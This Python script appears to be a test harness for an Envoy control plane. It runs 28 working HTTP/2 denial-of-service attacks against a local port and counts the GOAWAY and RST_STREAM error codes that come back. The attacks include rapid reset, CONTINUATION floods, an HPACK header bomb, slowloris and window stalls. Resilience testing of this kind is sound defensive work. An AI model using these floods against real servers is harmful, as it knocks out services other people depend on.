"""Attacks on HTTP/2, as their own process: ``transport_attacks.py PORT SECONDS ATTACK [CODE]``.

With CODE, floods go on until a GOAWAY with that error code has come, for 20 seconds more at most.

Prints one line of JSON: connections opened and closed by the plane, frames sent, and the GOAWAYs and RST_STREAMs that
came back by their error codes. An attacker whose connection is closed opens another at once.
"""

from __future__ import annotations

import json
import random
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress

from envoy.service.discovery.v3 import discovery_pb2
from hpack import Encoder

ADS = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
CLUSTER = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
MAX_CONNECTIONS = 3000
"""That one attack opens over its time."""


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def settings(**values: int) -> bytes:
    codes = {"table": 1, "streams": 3, "window": 4, "frame": 5}
    return frame(SETTINGS, b"".join(struct.pack(">HI", codes[name], value) for name, value in values.items()))


def window(size: int, stream: int = 0) -> bytes:
    return frame(WINDOW_UPDATE, size.to_bytes(4, "big"), stream=stream)


def fields(path: str = ADS, more: Iterable[tuple[str, str]] = ()) -> bytes:
    """A header block that leaves the peer's table as it is."""
    encoder = Encoder()
    encoder.header_table_size = 0
    pseudo = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
    return encoder.encode([*pseudo, ("te", "trailers"), ("content-type", "application/grpc"), *more])


FIELDS = fields()


def opened(stream: int, block: bytes = FIELDS) -> bytes:
    return frame(HEADERS, block, flags=END_HEADERS, stream=stream)


def message(stream: int, name: str = "evil") -> bytes:
    """A request for all clusters."""
    node = {"id": f"sidecar~10.6.6.6~{name}.default~default.svc.cluster.local"}
    body = discovery_pb2.DiscoveryRequest(type_url=CLUSTER, node=node).SerializeToString()
    return frame(DATA, struct.pack(">BI", 0, len(body)) + body, stream=stream)


class Attacker:
    """Counts what it did and saw."""

    def __init__(self, port: int, seconds: float, code: str) -> None:
        self.port = port
        self.code = code
        self.end = time.monotonic() + seconds
        self.counts: Counter[str] = Counter()

    @property
    def going_on(self) -> bool:
        awaited = bool(self.code) and not self.counts[f"goaway {self.code}"]
        return time.monotonic() < self.end + 20 * awaited and self.counts["opened"] < MAX_CONNECTIONS

    def connect(self, hello: bytes = PREFACE + settings()) -> Wire:
        sock = socket.create_connection(("127.0.0.1", self.port), 10)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.counts["opened"] += 1
        wire = Wire(sock, self.counts)
        wire.send(hello)
        return wire

    def flood(self, hello: bytes, flood: Callable[[int], Iterable[bytes]], *, reads: bool = True) -> None:
        """On a connection, and on the next when that is closed: ``hello``, then what ``flood`` gives, again and again.

        ``flood`` gets the number of the connection.
        """
        while self.going_on:
            try:
                with self.connect(hello) as wire:
                    for data in flood(self.counts["opened"]):
                        wire.send(data)
                        if reads:
                            wire.drain()
                        if wire.closed or not self.going_on:
                            break
                    while reads and not wire.closed and self.going_on:
                        wire.drain(0.05)
            except OSError:
                self.counts["failed"] += 1
                time.sleep(0.01)

    def crowd(self, size: int, hello: Callable[[int], bytes], *, rate: float = 1000) -> list[Wire]:
        """Many connections that say something and then nothing."""
        found = []
        for number in range(size):
            try:
                found.append(self.connect(hello(number)))
            except OSError:
                self.counts["failed"] += 1
            if not self.going_on:
                break
            time.sleep(1 / rate)
        return found

    def wait(self, crowd: list[Wire]) -> None:
        """To the end; then see which of the crowd are still connected."""
        time.sleep(max(0.0, self.end - time.monotonic()))
        for wire in crowd:
            wire.drain()
            wire.close()


class Wire:
    """One connection. Frames that come in are counted by kind and error code, and otherwise dropped."""

    def __init__(self, sock: socket.socket, counts: Counter[str]) -> None:
        self.sock = sock
        self.sock.setblocking(False)
        self.counts = counts
        self.closed = False
        self.data_frames = 0
        self._begun = bytearray()

    def __enter__(self) -> Wire:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        self.sock.close()

    def send(self, data: bytes, patience: float = 10.0) -> None:
        """All of ``data``, reading what comes meanwhile."""
        rest = memoryview(data)
        end = time.monotonic() + patience
        while rest and not self.closed:
            try:
                rest = rest[self.sock.send(rest) :]
            except BlockingIOError:
                self.drain()
                if not self.closed:
                    select.select([], [self.sock], [], 0.05)
                if time.monotonic() > end:
                    self.counts["stuck"] += 1
                    return
            except OSError:
                self._end()

    def drain(self, seconds: float = 0.0) -> None:
        """Take what has come in; first wait for something for so long."""
        if seconds:
            select.select([self.sock], [], [], seconds)
        while not self.closed:
            try:
                data = self.sock.recv(262144)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if not data:
                self._end()
            self._begun += data
            self._scan()

    def _end(self) -> None:
        self._scan()
        self.closed = True
        self.counts["closed"] += 1

    def _scan(self) -> None:
        at = 0
        while len(self._begun) >= at + 9:
            size = int.from_bytes(self._begun[at : at + 3], "big")
            if len(self._begun) < at + 9 + size:
                break
            kind, payload = self._begun[at + 3], bytes(self._begun[at + 9 : at + 9 + size])
            if kind == GOAWAY:
                self.counts[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
            elif kind == RST_STREAM:
                self.counts[f"reset {int.from_bytes(payload, 'big')}"] += 1
            elif kind == DATA:
                self.data_frames += 1
                self.counts["data frames"] += 1
                self.counts["data bytes"] += size
            at += 9 + size
        del self._begun[:at]


def repeated(data: bytes, *, times: int = 500, most: int = 4000) -> Callable[[int], Iterator[bytes]]:
    """A flood of the same frames: ``times`` of them in a piece, ``most`` pieces."""
    return lambda _: (data * times for _ in range(most))


HELLO = PREFACE + settings()
ASKED = HELLO + opened(1) + message(1)


def idle_tcp(attacker: Attacker) -> None:
    attacker.wait(attacker.crowd(1000, lambda _: b""))


def idle_http2(attacker: Attacker) -> None:
    attacker.wait(attacker.crowd(1000, lambda _: HELLO))


def slowloris(attacker: Attacker) -> None:
    """300 connections that send a byte of a header block now and then."""
    block = frame(HEADERS, FIELDS + bytes(2000), flags=END_HEADERS, stream=1)
    crowd = attacker.crowd(300, lambda _: HELLO)
    for at in range(len(block)):
        for wire in crowd:
            wire.send(block[at : at + 1])
            wire.drain()
        if not attacker.going_on:
            break
        time.sleep(0.3)
    attacker.wait(crowd)


def garbage(attacker: Attacker) -> None:
    """Noise, with and without a preface; each connection is dropped and another opened."""
    pick = random.Random(1)
    noise = [pick.randbytes(5000) for _ in range(50)]
    attacker.flood(
        b"", lambda number: [noise[number % 50]] if number % 2 else [PREFACE, noise[number % 50]], reads=False
    )


def zero_window(attacker: Attacker) -> None:
    """200 clients that ask for all clusters and take no byte of them."""
    hello = PREFACE + settings(window=0) + opened(1)
    attacker.wait(attacker.crowd(200, lambda number: hello + message(1, f"zero-{number}")))


def deaf(attacker: Attacker) -> None:
    """200 clients that ask for all clusters and do not read their sockets."""
    attacker.wait(attacker.crowd(200, lambda number: HELLO + opened(1) + message(1, f"deaf-{number}")))


def half_messages(attacker: Attacker) -> None:
    """200 streams with half a message."""
    half = frame(DATA, struct.pack(">BI", 0, 40_000) + bytes(15_000), stream=1)
    attacker.wait(attacker.crowd(200, lambda _: HELLO + opened(1) + half))


def dust(attacker: Attacker) -> None:
    """A large message in DATA frames of 6 bytes."""
    head = frame(DATA, struct.pack(">BI", 0, 60_000_000), stream=1)
    attacker.flood(HELLO + opened(1) + head, repeated(frame(DATA, b"abcdef", stream=1), times=1000))


def continuation(attacker: Attacker) -> None:
    """Header blocks without an end."""
    start = frame(HEADERS, FIELDS, stream=1)
    attacker.flood(HELLO + start, repeated(frame(CONTINUATION, b"", stream=1)))


def large_continuation(attacker: Attacker) -> None:
    """Header blocks of many large frames."""
    start = frame(HEADERS, FIELDS, stream=1)
    attacker.flood(HELLO + start, repeated(frame(CONTINUATION, bytes(1 << 20), stream=1), times=1, most=64))


def header_bomb(attacker: Attacker) -> None:
    """A long header in the table of the peer, then header blocks that name it a thousand times."""
    plant = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000  # a literal of 127 + 33 + 30 * 128 bytes
    without_size = FIELDS.removeprefix(b"\x20")  # FIELDS would begin with emptying the table
    first = frame(HEADERS, without_size + plant, flags=END_HEADERS, stream=1)

    def bombs(_: int) -> Iterator[bytes]:
        for stream in range(3, 20_000, 2):
            yield opened(stream, b"\xbe" * 16_000)

    attacker.flood(HELLO + first, bombs)


def many_headers(attacker: Attacker) -> None:
    """Streams with a thousand small headers each."""
    block = fields(more=[(f"x-{n}", "v") for n in range(1000)])
    attacker.flood(HELLO, lambda _: (opened(stream, block) for stream in range(1, 40_000, 2)))


def ping_flood(attacker: Attacker) -> None:
    attacker.flood(ASKED, repeated(frame(PING, b"12345678")))


def settings_flood(attacker: Attacker) -> None:
    attacker.flood(ASKED, repeated(settings()))


def large_settings(attacker: Attacker) -> None:
    """SETTINGS of 100,000 entries."""
    many = frame(SETTINGS, b"".join(struct.pack(">HI", 100 + n % 60_000, n) for n in range(100_000)))
    attacker.flood(ASKED, repeated(many, times=1, most=100))


def window_flips(attacker: Attacker) -> None:
    """100 streams that ask, and SETTINGS that open and close their windows."""
    streams = b"".join(opened(n) + message(n, f"flip-{n}") for n in range(1, 200, 2))
    attacker.flood(HELLO + streams, repeated(settings(window=1) + settings(window=0), times=250))


def tiny_windows(attacker: Attacker) -> None:
    """50 streams that ask, whose windows are opened by a byte at a time."""
    ids = range(1, 100, 2)
    hello = PREFACE + settings(window=0) + b"".join(opened(n) + message(n, f"tiny-{n}") for n in ids)
    attacker.flood(hello, repeated(b"".join(window(1, n) for n in ids), times=20))


def patient_tiny_windows(attacker: Attacker) -> None:
    """200 clients that ask and open their windows by a byte, 50 times a second."""
    hello = PREFACE + settings(window=0) + opened(1)
    crowd = attacker.crowd(200, lambda number: hello + message(1, f"tiny-{number}"))
    while attacker.going_on:
        for wire in crowd:
            wire.send(window(1, 1))
            wire.drain()
        time.sleep(0.02)
    attacker.wait(crowd)


def empty_data(attacker: Attacker) -> None:
    attacker.flood(HELLO + opened(1), repeated(frame(DATA, stream=1)))


def window_update_flood(attacker: Attacker) -> None:
    attacker.flood(ASKED, repeated(window(1) + window(1, 1), times=250))


def priority_flood(attacker: Attacker) -> None:
    attacker.flood(ASKED, repeated(frame(PRIORITY, bytes((0, 0, 0, 0, 9)), stream=3)))


def unknown_flood(attacker: Attacker) -> None:
    """Frames of a kind that is not known, empty and large."""
    attacker.flood(ASKED, repeated(frame(0x77) * 50 + frame(0x77, bytes(60_000)), times=10))


def rapid_reset(attacker: Attacker) -> None:
    """Streams that are reset as soon as they are open."""
    reset = struct.pack(">I", 8)

    def streams(_: int) -> Iterator[bytes]:
        for first in range(1, 400_000, 400):
            ids = range(first, first + 400, 2)
            yield b"".join(opened(n) + frame(RST_STREAM, reset, stream=n) for n in ids)

    attacker.flood(HELLO, streams)


def _streams(count: int, *, asks: bool) -> Callable[[int], Iterator[bytes]]:
    def give(number: int) -> Iterator[bytes]:
        for first in range(1, 2 * count, 200):
            ids = range(first, first + 200, 2)
            yield b"".join(opened(n) + (message(n, f"many-{number}-{n}") if asks else b"") for n in ids)

    return give


def many_streams(attacker: Attacker) -> None:
    """10,000 streams on a connection, each of which asks for all clusters."""
    attacker.flood(HELLO, _streams(10_000, asks=True))


def many_streams_over_ten(attacker: Attacker) -> None:
    """12,000 streams over ten connections, each of which asks for all clusters."""
    crowd = attacker.crowd(10, lambda _: HELLO)
    floods = [_streams(1200, asks=True)(number) for number in range(len(crowd))]
    for pieces in zip(*floods, strict=True):
        for wire, piece in zip(crowd, pieces, strict=True):
            wire.send(piece)
            wire.drain()
    while attacker.going_on:
        for wire in crowd:
            wire.drain()
        time.sleep(0.02)
    attacker.wait(crowd)


def refused_streams(attacker: Attacker) -> None:
    """Streams beyond those that are allowed, forever."""
    attacker.flood(HELLO, _streams(1_000_000, asks=False))


def unary_flood(attacker: Attacker) -> None:
    """Calls of a method that does not exist: each is answered."""
    block = fields("/no.Such/Method")
    attacker.flood(
        HELLO, lambda _: (b"".join(opened(n, block) for n in range(f, f + 100, 2)) for f in range(1, 10**6, 100))
    )


def flood_by_many(attacker: Attacker) -> None:
    """100 connections that flood with PING together."""
    pings = frame(PING, b"12345678") * 200
    crowd = attacker.crowd(100, lambda _: ASKED)
    while attacker.going_on:
        for at, wire in enumerate(crowd):
            if wire.closed:
                wire.close()
                with suppress(OSError):
                    wire = crowd[at] = attacker.connect(ASKED)
            wire.send(pings, 0.5)
            wire.drain()
    attacker.wait(crowd)


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    function.__name__: function
    for function in (
        idle_tcp,
        idle_http2,
        slowloris,
        garbage,
        zero_window,
        deaf,
        half_messages,
        dust,
        continuation,
        large_continuation,
        header_bomb,
        many_headers,
        ping_flood,
        settings_flood,
        large_settings,
        window_flips,
        tiny_windows,
        patient_tiny_windows,
        empty_data,
        window_update_flood,
        priority_flood,
        unknown_flood,
        rapid_reset,
        many_streams,
        many_streams_over_ten,
        refused_streams,
        unary_flood,
        flood_by_many,
    )
}


def main(port: str, seconds: str, attack: str, code: str = "") -> None:
    attacker = Attacker(int(port), float(seconds), code)
    ATTACKS[attack](attacker)
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
